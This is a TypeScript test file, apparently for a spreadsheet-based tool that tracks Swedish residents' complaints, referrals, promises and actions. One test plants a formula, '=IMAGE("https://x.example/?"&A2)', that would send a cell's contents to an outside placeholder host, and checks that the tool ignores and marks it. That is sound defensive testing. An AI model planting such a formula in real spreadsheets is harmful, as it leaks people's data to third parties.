import { describe, expect, test } from 'vitest';
import { MATTER_COLUMNS, REFERRAL_COLUMNS } from '../../shared/edits/meanings.ts';
import { tabWords } from '../../shared/text/tabs.ts';
import './support/patience.ts';
import { fireEdit, markOf, paste, typeIn } from './support/edit.ts';
import { deleteRow, rowOf, sortRows } from './support/hands.ts';
import { TestSheet } from './support/sheet.ts';

const TAB = 'Ärenden';
const facts = (sheet: TestSheet) => sheet.rows('Händelser').map((row) => row.type);

describe('a cell that is written by hand is a command', () => {
  test('title, kind, theme, place, channel and owner are corrected; the first owner is the triage', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    typeIn(sheet, TAB, 2, 'matters.owner', 'Anna');
    typeIn(sheet, TAB, 2, 'matters.title', 'Lampan är trasig');
    typeIn(sheet, TAB, 2, 'matters.kind', 'klagomål');
    typeIn(sheet, TAB, 2, 'matters.theme', ' Belysning ');
    typeIn(sheet, TAB, 2, 'matters.owner', 'Bo');
    expect(facts(sheet)).toEqual([
      'matter_received',
      'matter_triaged',
      'matter_corrected',
      'matter_corrected',
      'matter_corrected',
      'matter_corrected',
    ]);
    expect(sheet.card(matter)?.state).toMatchObject({
      owner: 'Bo',
      title: 'Lampan är trasig',
      kind: 'complaint',
      theme: 'Belysning',
    });
    expect(sheet.row(TAB, matter)).toMatchObject({
      kind: 'Klagomål',
      theme: 'Belysning',
      stage: 'Fördelat',
      owner: 'Bo',
    });
    expect(sheet.rows('Händelser').at(-1)?.source).toBe('Arket');
  });

  test('a day as people write it gets the usual form; a word that is no day is kept, marked and explained', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    typeIn(sheet, TAB, 2, 'matters.received', '3/4');
    expect(sheet.row(TAB, matter)?.received).toBe('2026-04-03');
    typeIn(sheet, TAB, 2, 'matters.received', 'i tisdags');
    expect(sheet.row(TAB, matter)?.received).toBe('i tisdags');
    expect(sheet.card(matter)?.state.received).toBe('2026-04-03');
    expect(markOf(sheet, TAB, 2, 'matters.received').note).toMatch(/^Gensvar: Det här är ingen dag/);
    expect(markOf(sheet, TAB, 2, 'matters.received').background).toBe('#ffd8a8');
    typeIn(sheet, TAB, 2, 'matters.received', '2026-04-02');
    expect(markOf(sheet, TAB, 2, 'matters.received')).toEqual({ note: '', background: '' });
    expect(sheet.card(matter)?.state.received).toBe('2026-04-02');
  });

  test('a refusal stands at the cell, and the colour and note that people had come back', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    const column = sheet.column(TAB, 'matters.decision');
    const tab = sheet.tab(TAB).id;
    sheet.apply({
      kind: 'cells',
      sheet: tab,
      row: 2,
      column,
      cells: [[{ value: 'Nej', note: 'fråga Bo', style: { background: '#fff2cc' } }]],
    });
    fireEdit(sheet, TAB, { row: 2, column, rows: 1, columns: 1 });
    expect(markOf(sheet, TAB, 2, 'matters.decision').note).toBe(
      'fråga Bo\n\nGensvar: Det gick inte att föra in: Skriv varför. Den boende har rätt att få veta skälet.\nCellens färg före: #fff2cc',
    );
    expect(sheet.row(TAB, matter)?.decision).toBe('Nej');
    sheet.done({ type: 'decide', matter, outcome: 'no', reason: 'Ingen plats.' });
    fireEdit(sheet, TAB, { row: 2, column, rows: 1, columns: 1 });
    expect(markOf(sheet, TAB, 2, 'matters.decision')).toEqual({ note: 'fråga Bo', background: '#fff2cc' });
  });

  test('computed columns, the number and the resident’s own words are kept, marked and never entered', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    for (const key of ['stage', 'waiting', 'since', 'due', 'number', 'text']) {
      typeIn(sheet, TAB, 2, `matters.${key}`, 'något annat');
      expect(sheet.cell(TAB, 2, sheet.column(TAB, `matters.${key}`))?.value).toBe('något annat');
      expect(markOf(sheet, TAB, 2, `matters.${key}`).note).toContain('står kvar');
    }
    expect(facts(sheet)).toEqual(['matter_received']);
    expect(sheet.card(matter)?.state.version).toBe(1);
    typeIn(sheet, TAB, 2, 'matters.stage', 'Inkommet');
    expect(markOf(sheet, TAB, 2, 'matters.stage')).toEqual({ note: '', background: '' });
  });

  test('decision and told day are steps; emptying the cell at once takes the step back', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    typeIn(sheet, TAB, 2, 'matters.decision', 'Ja');
    typeIn(sheet, TAB, 2, 'matters.told', '2026-04-13');
    expect(sheet.row(TAB, matter)).toMatchObject({
      stage: 'Återkopplat',
      told: '2026-04-13',
      decision: 'Ja',
    });
    typeIn(sheet, TAB, 2, 'matters.decision', '');
    expect(markOf(sheet, TAB, 2, 'matters.decision').note).toContain('tar inte tillbaka steget');
    typeIn(sheet, TAB, 2, 'matters.told', '');
    expect(sheet.row(TAB, matter)?.stage).toBe('Beslutat');
    expect(facts(sheet).at(-1)).toBe('undone');
  });

  test('a formula is not read as text', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture({ theme: 'Klotter' });
    const column = sheet.column(TAB, 'matters.theme');
    sheet.apply({
      kind: 'cells',
      sheet: sheet.tab(TAB).id,
      row: 2,
      column,
      cells: [[{ value: '', formula: '=IMAGE("https://x.example/?"&A2)' }]],
    });
    fireEdit(sheet, TAB, { row: 2, column, rows: 1, columns: 1 });
    expect(sheet.card(matter)?.state.theme).toBe('Klotter');
    expect(markOf(sheet, TAB, 2, 'matters.theme').note).toContain('formel');
  });

  test('an edit in people’s own column reads nothing and takes no lock', () => {
    const sheet = TestSheet.ready();
    sheet.capture();
    typeIn(sheet, TAB, 2, 'matters.notes', 'ring igen');
    expect(
      sheet.last?.counters['LockService.Lock.tryLock'] ?? sheet.last?.counters['Lock.tryLock'],
    ).toBeUndefined();
    expect(facts(sheet)).toEqual(['matter_received']);
  });
});

describe('many cells at once', () => {
  test('a pasted block and a fill-down change every row they cover, in calls that do not depend on it', () => {
    const calls = [2, 40].map((count) => {
      const sheet = TestSheet.ready();
      sheet.captures(count);
      const owners = Array.from({ length: count }, () => ['Anna']);
      paste(sheet, TAB, 2, sheet.column(TAB, 'matters.owner'), owners);
      const made = sheet.serviceCalls;
      expect(sheet.rows(TAB).every((row) => row.owner === 'Anna' && row.stage === 'Fördelat')).toBe(true);
      expect(facts(sheet).filter((type) => type === 'matter_triaged')).toHaveLength(count);
      return made;
    });
    expect(calls[1]).toBe(calls[0]);
  });

  test('thirty rows from Excel become thirty matters in one execution; a row that cannot be read waits', () => {
    const calls = [3, 30].map((count) => {
      const sheet = TestSheet.ready();
      sheet.capture();
      const first = sheet.column(TAB, 'matters.received');
      const rows = Array.from({ length: count }, (_, index) => [
        index === 1 ? 'förra veckan' : `2026-03-${String((index % 28) + 1).padStart(2, '0')}`,
        `Rad ${index}`,
        'Klagomål',
      ]);
      paste(sheet, TAB, 3, first, rows);
      const made = sheet.serviceCalls;
      const matters = sheet.rows(TAB);
      expect(matters).toHaveLength(count + 1);
      expect(matters.filter((row) => row.number !== '')).toHaveLength(count);
      expect(matters[1]).toMatchObject({
        number: 'SKÄ-2026-0002',
        title: 'Rad 0',
        received: '2026-03-01',
        kind: 'Klagomål',
        stage: 'Inkommet',
      });
      expect(matters[2]).toMatchObject({ number: '', title: 'Rad 1', received: 'förra veckan' });
      expect(markOf(sheet, TAB, 4, 'matters.received').note).toContain(
        'blir ett ärende när cellen är rättad',
      );
      typeIn(sheet, TAB, 4, 'matters.received', '2026-03-02');
      expect(sheet.rows(TAB)[2]).toMatchObject({ title: 'Rad 1', received: '2026-03-02' });
      expect(sheet.rows(TAB)[2]?.number).toBe(`SKÄ-2026-${String(count + 1).padStart(4, '0')}`);
      expect(new Set(sheet.rows(TAB).map((row) => row.key)).size).toBe(count + 1);
      return made;
    });
    expect(calls[1]).toBe(calls[0]);
  });

  test('a pasted row without a title, and one with a day to come, are marked where they are to be mended', () => {
    const sheet = TestSheet.ready();
    const first = sheet.column(TAB, 'matters.received');
    paste(sheet, TAB, 2, first, [
      ['2026-03-01', '', 'Klagomål'],
      ['2027-05-05', 'Hål i vägen', 'Klagomål'],
      ['2026-03-02', '', ''],
    ]);
    expect(sheet.rows(TAB).map((row) => row.number)).toEqual(['', '', '']);
    const note = (row: number, key: string) => markOf(sheet, TAB, row, `matters.${key}`).note;
    expect(note(2, 'title')).toMatch(/^Gensvar: Raden saknar rubrik.* blir ett ärende när cellen är rättad/);
    expect(note(3, 'received')).toContain('Dagen ligger i framtiden');
    expect(note(3, 'title')).toBe('');
    expect([note(4, 'title'), note(4, 'received')]).toEqual(['', '']);
    expect(JSON.stringify(sheet.last?.effects)).toContain('2 celler kunde inte föras in');
    typeIn(sheet, TAB, 2, 'matters.title', 'Mörkt');
    typeIn(sheet, TAB, 3, 'matters.received', '2026-04-05');
    typeIn(sheet, TAB, 4, 'matters.title', 'Halt');
    expect(sheet.rows(TAB).map((row) => row.number)).toEqual([
      'SKÄ-2026-0001',
      'SKÄ-2026-0002',
      'SKÄ-2026-0003',
    ]);
    expect(markOf(sheet, TAB, 2, 'matters.title')).toEqual({ note: '', background: '' });
    typeIn(sheet, TAB, 2, 'matters.received', '2027-01-01');
    expect(note(2, 'received')).toContain('Dagen ligger i framtiden');
  });

  test('what a pasted row says in other columns is not lost', () => {
    const sheet = TestSheet.ready();
    sheet.capture();
    const put = (key: string, text: string) => sheet.type(TAB, 3, sheet.column(TAB, `matters.${key}`), text);
    put('number', '2023-114');
    put('title', 'Hål i vägen');
    put('stage', 'Pågår');
    put('owner', 'Bo');
    put('decision', 'Nej');
    put('notes', 'min egen');
    fireEdit(sheet, TAB, { row: 3, column: 1, rows: 1, columns: 12 });
    expect(sheet.rows(TAB)[1]).toMatchObject({
      number: 'SKÄ-2026-0002',
      owner: 'Bo',
      stage: 'Fördelat',
      decision: 'Nej',
      notes: 'min egen',
    });
    expect(markOf(sheet, TAB, 3, 'matters.decision').note).toContain('Skriv varför');
    const note = sheet.rows('Händelser').find((row) => row.type === 'note_added');
    expect(note?.data).toContain('Nummer: 2023-114; Läge: Pågår');
  });
});

describe('rows that are not whose they seem', () => {
  test('a copied row says nothing; with its number emptied it is a matter of its own', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    const cells = [[...(sheet.tab(TAB).cells[2] ?? [])]];
    sheet.apply({ kind: 'cells', sheet: sheet.tab(TAB).id, row: 3, column: 0, cells });
    typeIn(sheet, TAB, 3, 'matters.title', 'En annan lampa');
    expect(sheet.card(matter)?.state.title).toBe('Mörkt i gångtunneln');
    expect(markOf(sheet, TAB, 3, 'matters.number').note).toContain(`kopia av ${matter}`);
    typeIn(sheet, TAB, 3, 'matters.number', '');
    expect(sheet.rows(TAB).map((row) => [row.key, row.number, row.title])).toEqual([
      [matter, matter, 'Mörkt i gångtunneln'],
      ['SKÄ-2026-0002', 'SKÄ-2026-0002', 'En annan lampa'],
    ]);
    expect(markOf(sheet, TAB, 3, 'matters.number')).toEqual({ note: '', background: '' });
  });

  test('only the visible columns sorted: nothing is attached to another matter', () => {
    const sheet = TestSheet.ready();
    const matters = ['Cykel', 'Avlopp', 'Bänk'].map((title) => sheet.capture({ title }));
    const state = matters.map((matter) => sheet.card(matter)?.state);
    const from = sheet.column(TAB, 'matters.number');
    const to = sheet.column(TAB, 'matters.place');
    const rows = [2, 3, 4].map((row) => sheet.tab(TAB).cells[row]?.slice(from, to + 1) ?? []);
    const sorted = [...rows].sort((a, b) => String(a[2]?.value).localeCompare(String(b[2]?.value)));
    sheet.apply({ kind: 'cells', sheet: sheet.tab(TAB).id, row: 2, column: from, cells: sorted });
    fireEdit(sheet, TAB, { row: 2, column: from, rows: 3, columns: to - from + 1 });
    expect(matters.map((matter) => sheet.card(matter)?.state)).toEqual(state);
    expect(markOf(sheet, TAB, 2, 'matters.number').note).toContain('dolda innehåll hör till');
  });

  test('one column sorted by itself is marked, not entered', () => {
    const sheet = TestSheet.ready();
    const matters = ['Cykel', 'Avlopp', 'Bänk'].map((title) => sheet.capture({ title }));
    const column = sheet.column(TAB, 'matters.title');
    paste(sheet, TAB, 2, column, [['Avlopp'], ['Bänk'], ['Cykel']]);
    expect(matters.map((matter) => sheet.card(matter)?.state.title)).toEqual(['Cykel', 'Avlopp', 'Bänk']);
    expect(markOf(sheet, TAB, 3, 'matters.title').note).toContain('bytt plats');
    paste(sheet, TAB, 2, column, [['Cykel'], ['Avlopp'], ['Bänk']]);
    expect(markOf(sheet, TAB, 3, 'matters.title').note).toBe('');
  });

  test('a cleared key is given back by the number, and the row sorted whole is read as before', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    typeIn(sheet, TAB, 2, 'matters.key', '');
    expect(sheet.row(TAB, matter)?.number).toBe(matter);
    sheet.capture({ title: 'Avlopp' });
    sortRows(sheet, TAB, (row) => String(row[3]?.value ?? ''));
    fireEdit(sheet, TAB, { row: 2, column: 0, rows: 2, columns: 20 });
    expect(facts(sheet)).toEqual(['matter_received', 'matter_received']);
  });

  test('a row typed again with its number is that matter’s; its empty cells are filled, not emptied', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture({ theme: 'Klotter', place: 'Sätra' });
    sheet.done({ type: 'triage', matter, owner: 'Anna' });
    const before = sheet.row(TAB, matter);
    deleteRow(sheet, TAB, 2);
    const number = sheet.column(TAB, 'matters.number');
    paste(sheet, TAB, 2, number, [[matter, '', 'Ny rubrik']]);
    expect(sheet.card(matter)?.state).toMatchObject({
      title: 'Ny rubrik',
      theme: 'Klotter',
      place: 'Sätra',
      owner: 'Anna',
    });
    expect(sheet.row(TAB, matter)).toMatchObject({
      key: matter,
      title: 'Ny rubrik',
      stage: 'Fördelat',
      received: before?.received,
      place: 'Sätra',
      owner: 'Anna',
    });
    expect(facts(sheet)).toEqual(['matter_received', 'matter_triaged', 'matter_corrected']);
  });

  test('a row whose cells are emptied all at once is not read as so many corrections', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture({ theme: 'Klotter', place: 'Sätra' });
    const before = sheet.card(matter)?.state;
    const first = sheet.column(TAB, 'matters.number');
    const width = sheet.column(TAB, 'matters.link') - first + 1;
    paste(sheet, TAB, 2, first, [Array.from({ length: width }, () => '')]);
    expect(sheet.card(matter)?.state).toEqual(before);
    expect(markOf(sheet, TAB, 2, 'matters.number').note).toContain(matter);
  });

  test('a damaged hidden cell is put together again from the events', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    sheet.type(TAB, 2, sheet.column(TAB, 'matters.state'), 'oj');
    typeIn(sheet, TAB, 2, 'matters.theme', 'Belysning');
    expect(sheet.card(matter)?.state.theme).toBe('Belysning');
    expect(JSON.parse(sheet.row(TAB, matter)?.state ?? '')).toMatchObject({ version: 2 });
  });
});

describe('the tab of referrals', () => {
  const referred = () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    sheet.done({ type: 'refer', matter, organisation: 'polisen', question: 'När?' });
    return { sheet, matter, row: rowOf(sheet, 'Remisser', `${matter}/R1`) };
  };

  test('a later due day extends; outcome, words and day together are the answer', () => {
    const { sheet, matter, row } = referred();
    typeIn(sheet, 'Remisser', row, 'referrals.due', '2026-06-30');
    expect(sheet.card(matter)?.state.referrals[0]?.due).toBe('2026-06-30');
    typeIn(sheet, 'Remisser', row, 'referrals.answer', 'Lampan lagas i maj.');
    expect(markOf(sheet, 'Remisser', row, 'referrals.answer').note).toContain('kolumnen Utfall');
    typeIn(sheet, 'Remisser', row, 'referrals.outcome', 'Ja');
    expect(sheet.card(matter)?.state.referrals[0]).toMatchObject({
      answered: '2026-04-13',
      reply: { outcome: 'yes', text: 'Lampan lagas i maj.' },
    });
    expect(sheet.rows('Remisser')[0]).toMatchObject({ stage: 'Besvarad', answered: '2026-04-13' });
    expect(markOf(sheet, 'Remisser', row, 'referrals.answer')).toEqual({ note: '', background: '' });
    expect(sheet.row(TAB, matter)?.stage).toBe('Besvarat');
  });

  test('an earlier day, another recipient and a changed question are kept and explained', () => {
    const { sheet, matter, row } = referred();
    const before = sheet.card(matter)?.state;
    typeIn(sheet, 'Remisser', row, 'referrals.due', '2026-04-14');
    typeIn(sheet, 'Remisser', row, 'referrals.organisation', 'Någon annan');
    typeIn(sheet, 'Remisser', row, 'referrals.question', 'Varför?');
    expect(sheet.card(matter)?.state).toEqual(before);
    for (const key of ['due', 'organisation', 'question']) {
      expect(markOf(sheet, 'Remisser', row, `referrals.${key}`).note).toMatch(/^Gensvar: /);
    }
  });
});

describe('the tabs of promises and actions', () => {
  test('a later day moves, a day under “kept” or “done” ends it, and what follows from events is kept and explained', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    sheet.done({ type: 'promise', matter, what: 'Ringa upp', to: 'Den boende', due: '2026-04-20' });
    sheet.done({ type: 'plan_action', matter, what: 'Byta lampan', owner: 'Bo', due: '2026-05-04' });
    const promise = rowOf(sheet, 'Löften', `${matter}/L1`);
    const action = rowOf(sheet, 'Åtgärder', `${matter}/A1`);
    typeIn(sheet, 'Löften', promise, 'promises.due', '2026-04-24');
    typeIn(sheet, 'Åtgärder', action, 'actions.due', '1/6');
    expect(sheet.card(matter)?.state.promises[0]).toMatchObject({
      firstDue: '2026-04-20',
      due: '2026-04-24',
    });
    expect(sheet.card(matter)?.state.actions[0]).toMatchObject({ firstDue: '2026-05-04', due: '2026-06-01' });
    typeIn(sheet, 'Löften', promise, 'promises.kept', '2026-04-13');
    typeIn(sheet, 'Åtgärder', action, 'actions.done', 'i dag');
    typeIn(sheet, 'Åtgärder', action, 'actions.stage', 'Nästan');
    expect(sheet.card(matter)?.state.promises[0]?.kept).toBe('2026-04-13');
    expect(sheet.card(matter)?.state.actions[0]?.done).toEqual({ on: '2026-04-13', outcome: 'no_evidence' });
    expect(markOf(sheet, 'Åtgärder', action, 'actions.stage').note).toContain('står kvar men gäller inte');
    typeIn(sheet, 'Åtgärder', action, 'actions.done', '');
    expect(sheet.card(matter)?.state.actions[0]?.done).toBeUndefined();
    expect(sheet.cell('Åtgärder', action, sheet.column('Åtgärder', 'actions.done'))?.value ?? '').toBe('');
  });

  test('an issue is joined and left by its number', () => {
    const sheet = TestSheet.ready();
    const matter = sheet.capture();
    typeIn(sheet, TAB, 2, 'matters.group', 'fråga 1');
    expect(markOf(sheet, TAB, 2, 'matters.group').note).toContain('F-2026-0012');
    typeIn(sheet, TAB, 2, 'matters.group', 'F-2026-0001');
    expect(sheet.row(TAB, matter)).toMatchObject({ group: 'F-2026-0001', relation: 'Samma fråga' });
    typeIn(sheet, TAB, 2, 'matters.relation', 'hör ihop');
    expect(sheet.card(matter)?.state.group).toEqual({ group: 'F-2026-0001', relation: 'related' });
    typeIn(sheet, TAB, 2, 'matters.group', '');
    expect(sheet.card(matter)?.state.group).toBeUndefined();
    expect(sheet.row(TAB, matter)).toMatchObject({ group: '', relation: '' });
  });
});

describe('who may', () => {
  const area = { row: 2, column: 4, rows: 1, columns: 1 };

  test('the simple trigger works with limited rights, and neither it nor the menu needs more', () => {
    const sheet = TestSheet.ready();
    sheet.capture();
    const limited = sheet.run(
      'onEdit',
      [],
      { kind: 'edit', sheet: sheet.tab(TAB).id, area },
      undefined,
      'LIMITED',
    );
    expect(limited.ok).toBe(true);
    expect(sheet.run('onOpen', [], { kind: 'open' }, undefined, 'NONE').ok).toBe(true);
  });

  test('a tab that is gone: the edit stays, and a sentence says the way out', () => {
    const sheet = TestSheet.ready();
    sheet.capture();
    sheet.apply({ kind: 'deleteSheet', sheet: sheet.tab('Händelser').id });
    typeIn(sheet, TAB, 2, 'matters.theme', 'Klotter');
    expect(sheet.rows(TAB)[0]?.theme).toBe('Klotter');
    const said = sheet.last?.effects.map((effect) => JSON.stringify(effect)).join(' ');
    expect(said).toContain('fliken Händelser saknas');
  });
});

test('every column of the tabs that are read has a meaning, or is named as people’s own or hidden', () => {
  const hidden = ['key', 'title', 'fields', 'page', 'status', 'state', 'notes'];
  const unread = (tab: 'matters' | 'referrals', known: readonly string[]) =>
    Object.keys(tabWords.sv[tab].columns).filter((key) => !known.includes(key) && !hidden.includes(key));
  expect(unread('matters', MATTER_COLUMNS)).toEqual([]);
  expect(unread('referrals', REFERRAL_COLUMNS)).toEqual([]);
});

test('a trigger’s function that anybody calls does nothing', () => {
  const sheet = TestSheet.ready();
  sheet.capture();
  for (const name of ['handleEdit', 'handleChange', 'onEdit']) {
    for (const argument of [undefined, null, {}, { range: {} }, { changeType: 'REMOVE_ROW', range: 'A1' }]) {
      expect(sheet.run(name, [argument]).ok).toBe(true);
    }
  }
  expect(facts(sheet)).toEqual(['matter_received']);
});
